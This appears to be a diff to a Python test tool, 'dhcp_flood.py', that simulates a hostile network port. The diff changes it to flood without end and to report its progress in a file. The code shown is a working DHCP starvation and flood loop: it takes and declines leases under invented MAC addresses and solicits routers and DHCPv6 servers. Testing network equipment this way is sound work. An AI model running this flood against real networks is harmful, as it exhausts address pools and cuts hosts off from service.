@@ -1,10 +1,10 @@
 #!/usr/bin/env python3
 # SPDX-License-Identifier: GPL-2.0-or-later
-"""dhcp_flood.py IFACE SERVER FIRST COUNT SECONDS
+"""dhcp_flood.py IFACE SERVER FIRST COUNT SENT [OWN]
 
-A hostile port: for so many seconds it takes leases of the COUNT addresses from FIRST on under MAC addresses that it makes
-up, gives them back as used by others (DECLINE), and solicits routers and DHCPv6 servers, as fast as it can. Prints how many
-frames it sent.
+A hostile port: until it is ended it takes leases of the COUNT addresses from FIRST on under MAC addresses that it makes up,
+gives them back as used by others (DECLINE), and solicits routers and DHCPv6 servers, as fast as it can. How many frames
+that were so far is in the file SENT. OWN: under its own address, all of it.
 """
 import os
 import socket
@@ -34,15 +34,20 @@ def solicit6(mac):
 
 
 def main():
-    interface, server, first, count, seconds = sys.argv[1:]
+    interface, server, first, count, told = sys.argv[1:6]
     link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
     link.bind((interface, 0))
     server = socket.inet_aton(server)
     (start,) = struct.unpack("!I", socket.inet_aton(first))
-    sent = 0
-    end = time.monotonic() + float(seconds)
-    while time.monotonic() < end:
-        mac = b"\x02" + os.urandom(5)
+    own = link.getsockname()[4] if len(sys.argv) > 6 else None
+    sent = rounds = 0
+    while True:
+        rounds += 1
+        if rounds % 1000 == 0:
+            with open(told + ".new", "w", encoding="ascii") as file:
+                file.write(f"{sent}\n")
+            os.rename(told + ".new", told)
+        mac = own or b"\x02" + os.urandom(5)
         address = struct.pack("!I", start + sent % int(count))
         chosen = b"\x32\x04" + address + b"\x36\x04" + server
         for one in (frame(mac, sent, DISCOVER, b""), frame(mac, sent, REQUEST, chosen),
@@ -52,7 +57,6 @@ def main():
                 sent += 1 if one and link.send(one) else 0
             except OSError:
                 time.sleep(0.001)
-    print(sent)
 
 
 main()
